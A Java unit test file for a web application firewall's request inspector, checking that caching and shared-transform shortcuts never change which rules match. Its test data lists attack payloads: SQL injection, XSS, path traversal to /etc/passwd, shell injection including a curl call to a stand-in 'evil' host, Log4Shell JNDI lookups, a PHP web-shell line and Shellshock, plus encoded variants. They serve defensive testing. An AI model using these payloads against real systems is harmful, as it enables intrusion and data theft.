package dev.bastion.waf;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * The inspector's shortcuts — one literal automaton for all rules, transformations shared between chains
 * and between equal inputs, a lower-cased value taking its input's literal hits — must never change what
 * matches: checked against the plain reading of a rule (its chain, then its prefilter, then its operator)
 * over attacks of every family, their encodings, and benign text, with every built-in rule of every level.
 */
class InspectorTest {
    static final List<String> VALUES = List.of(
            "1 UNION/**/SELECT password FROM users", "' or '1'='1", "O'Brien", "select your plan from the list",
            "<script>alert(1)</script>", "<IMG SRC=JaVaScRiPt:alert(1)>", "%3Csvg%2Fonload%3Dalert(1)%3E", "<b>bold</b>",
            "../../etc/passwd", "..%c0%af..%c0%afetc%c0%afpasswd", "%2e%2e%2f%2e%2e%2fboot.ini", "report.pdf",
            ";cat /etc/passwd", "$(curl http://evil)", "c''at /e?c/pa??wd", "time is money", "Tom & Jerry; popcorn",
            "${jndi:ldap://x/a}", "${${lower:j}ndi:${lower:l}dap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
            "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index", "java.lang.Runtime.getRuntime().exec",
            "We would like to move our support team to the new plan next month. ".repeat(20),
            "ＳＥＬＥＣＴ ＊ ＦＲＯＭ users", "SeLeCt%09*%0bFrOm%0cusers", "&#x3C;script&#x3E;", "\\u003cscript\\u003e", "a\u0000b",
            "İSTANBUL union İ select", "nikto/2.1.6", "() { :; }; /bin/bash -c id",
            // long values (read from four places at once), attacks where one reading hands over to the next
            "Please review. ".repeat(10) + "<script>alert(1)</script>" + " Thanks.".repeat(27),
            "Hello+there+".repeat(25) + "%27+or+%271%27%3D%271" + "+ok".repeat(60),
            "Plain text, nothing else. ".repeat(30) + "${jndi:ldap://x/a}",
            // read as received (rules with no decoding), and serialized Java objects
            "%uff1cscript%uff1e", "rO0ABXNyABdqYXZh", "H4sIAAAAAAAAAJVQ",
            // literals of chains that remove white space, found across it (the text is read as if it held none),
            // with NULs too (read the long way when the chain also removes them), short and long
            "1 union select * from information _schema . tables", "sys\tobjects", "w a i t f o r d e l a y '0:0:5'",
            "<a style=\"background: u r l (javascript:alert(1))\">", "s\u0000r c d o c =x", "x\u0000link:h\u00a0ref=y", "t\u2003e\u2003m\u2003p\u2003d\u2003b",
            "Regards, ".repeat(22) + "sys  \t objects" + " ok".repeat(200), "Words here ".repeat(30) + "temp" + " ".repeat(60) + "db" + " fine".repeat(80),
            // longer than the per-thread character buffer holds at first: it grows, the texts before stay
            "Lorem ipsum dolor+sit amet. ".repeat(400) + "' or '1'='1");

    @Test
    void findsExactlyWhatEachRuleFindsOnItsOwn() {
        RuleSet set = RuleSet.load(List.of());
        for (int paranoia = 1; paranoia <= 4; paranoia++) {
            Inspector inspector = new Inspector(set, paranoia);
            for (String v : VALUES) {
                for (String form : List.of(v, v.toUpperCase(java.util.Locale.ROOT))) {
                    RequestTargets t = RequestTargets.of("GET", "/p", "q=" + java.net.URLEncoder.encode(form, java.nio.charset.StandardCharsets.UTF_8),
                            List.of(Map.entry("User-Agent", form), Map.entry("Referer", form)), null, null, x -> Set.of());
                    List<Integer> expected = new ArrayList<>();
                    for (Rule r : set.rules()) {
                        if (r.paranoia() <= paranoia && t.all().stream().anyMatch(x -> reads(r, x) && plainlyMatches(r, x.value()))) expected.add(r.id());
                    }
                    List<Integer> got = inspector.inspect(t, List.of()).matches().stream().map(Inspector.Match::rule).toList();
                    assertThat(got).as("PL%d on %s", paranoia, form).containsExactlyElementsOf(expected);
                }
            }
        }
    }

    @Test
    void theScoreAddsEachMatchingRuleOnce() {
        Inspector inspector = new Inspector(RuleSet.load(List.of()), 1);
        RequestTargets t = RequestTargets.of("GET", "/p", "a=1%20UNION%20SELECT%201&b=1%20UNION%20SELECT%202", List.of(), null, null, x -> Set.of());
        Inspector.Result r = inspector.inspect(t, List.of());
        assertThat(r.matches()).extracting(Inspector.Match::rule).doesNotHaveDuplicates().contains(942100);
        assertThat(r.score()).isEqualTo(r.matches().stream().mapToInt(m -> m.severity().score).sum());
    }

    @Test
    void rememberedVerdictsAreTheVerdicts() throws Exception {
        RuleSet set = RuleSet.load(List.of());
        Inspector inspector = new Inspector(set, 2);
        var json = new com.fasterxml.jackson.databind.ObjectMapper();
        for (String v : VALUES) {
            // The same value twice in one request (args:a, then args:b.0 from memory when short), then the whole request again.
            var tree = json.createObjectNode().put("a", v);
            tree.putArray("b").add(v);
            RequestTargets t = RequestTargets.of("POST", "/p", null, List.of(), "application/json", json.writeValueAsBytes(tree), x -> Set.of());
            List<Integer> expected = new ArrayList<>();
            for (Rule r : set.rules()) {
                if (r.paranoia() <= 2 && t.all().stream().anyMatch(x -> reads(r, x) && plainlyMatches(r, x.value()))) expected.add(r.id());
            }
            Inspector.Result first = inspector.inspect(t, List.of());
            assertThat(first.matches()).extracting(Inspector.Match::rule).as(v).containsExactlyElementsOf(expected);
            assertThat(inspector.inspect(t, List.of())).as(v).isEqualTo(first);
            // An exclusion applies to a remembered verdict: the rule is then recorded where else it matched.
            for (Inspector.Match m : first.matches()) {
                List<Inspector.Match> without = inspector.inspect(t, List.of(new dev.bastion.config.RouteWafConfig.Exclusion(m.rule(), m.target()))).matches();
                assertThat(without).as("%s without %d on %s", v, m.rule(), m.target()).doesNotContain(m);
                if (m.target().equals("args:a")) assertThat(without).contains(new Inspector.Match(m.rule(), "args:b.0", m.severity()));
            }
        }
    }

    @Test
    void aVerdictRememberedWithinARequestIsTheValuesWholeVerdict() throws Exception {
        // A value first seen after another one matched rules is remembered with every rule it matches, those included.
        RuleSet set = RuleSet.load(List.of());
        Inspector inspector = new Inspector(set, 2);
        var json = new com.fasterxml.jackson.databind.ObjectMapper();
        for (int i = 0; i < VALUES.size(); i++) {
            String v = VALUES.get(i), w = VALUES.get((i + 1) % VALUES.size());
            inspector.inspect(RequestTargets.of("POST", "/p", null, List.of(), "application/json",
                    json.writeValueAsBytes(json.createObjectNode().put("a", v).put("b", w)), x -> Set.of()), List.of());
            RequestTargets alone = RequestTargets.of("POST", "/p", null, List.of(), "application/json",
                    json.writeValueAsBytes(json.createObjectNode().put("b", w)), x -> Set.of());
            List<Integer> expected = new ArrayList<>();
            for (Rule r : set.rules()) {
                if (r.paranoia() <= 2 && alone.all().stream().anyMatch(x -> reads(r, x) && plainlyMatches(r, x.value()))) expected.add(r.id());
            }
            assertThat(inspector.inspect(alone, List.of()).matches()).extracting(Inspector.Match::rule).as(w).containsExactlyElementsOf(expected);
        }
    }

    @Test
    void rememberedVerdictsStayBounded() {
        Inspector inspector = new Inspector(RuleSet.load(List.of()), 1);
        for (int i = 0; i < 3 * Inspector.REMEMBERED_VALUES; i++) {
            RequestTargets t = RequestTargets.of("GET", "/", null, List.of(Map.entry("X-Request-Id", "id-" + i)), null, null, x -> Set.of());
            assertThat(inspector.inspect(t, List.of()).score()).isZero();
            assertThat(inspector.remembered()).isLessThanOrEqualTo(Inspector.REMEMBERED_VALUES);
        }
        assertThat(inspector.remembered()).isPositive();
    }

    @Test
    void credentialsAreNotRemembered() {
        Inspector inspector = new Inspector(RuleSet.load(List.of()), 1);
        for (int i = 0; i < 10; i++) {
            RequestTargets t = RequestTargets.of("GET", "/", null, List.of(Map.entry("Authorization", "Bearer bst_" + i),
                    Map.entry("X-Api-Key", "bst_" + i), Map.entry("Cookie", "session=s" + i)), null, null, x -> Set.of());
            assertThat(inspector.inspect(t, List.of()).score()).isZero();
        }
        // Only the header and cookie names are (three header names, in one target); no key, token or session value.
        assertThat(inspector.remembered()).isEqualTo(3);
    }

    @Test
    void rememberedRegexAnswersStayRightAndBounded() {
        Operator.Regex rx = Operator.Regex.of("^a+b$");
        for (int round = 0; round < 2; round++) {
            for (int i = 0; i < 3 * Operator.Regex.MEMO_ENTRIES; i++) {
                String v = "a".repeat(1 + i % 100) + (i % 3 == 0 ? "b" : "c") + (i / 100);
                assertThat(rx.matches(v)).as(v).isEqualTo(v.matches("^a+b$"));
                assertThat(rx.remembered()).isLessThanOrEqualTo(Operator.Regex.MEMO_ENTRIES);
            }
        }
        assertThat(rx.matches("aab")).isTrue();
        assertThat(rx.matches("aab")).as("answered from memory").isTrue();
        assertThat(rx.matches("a".repeat(Operator.Regex.MEMO_LENGTH) + "b")).as("too long to remember, still right").isTrue();
    }

    static boolean reads(Rule r, RequestTargets.Target t) {
        return r.targets().contains(t.kind()) || r.targets().contains(t.name());
    }

    static boolean plainlyMatches(Rule r, String value) {
        String v = value;
        for (Transform t : r.transforms()) v = t.apply(v);
        return r.matches(v);
    }
}
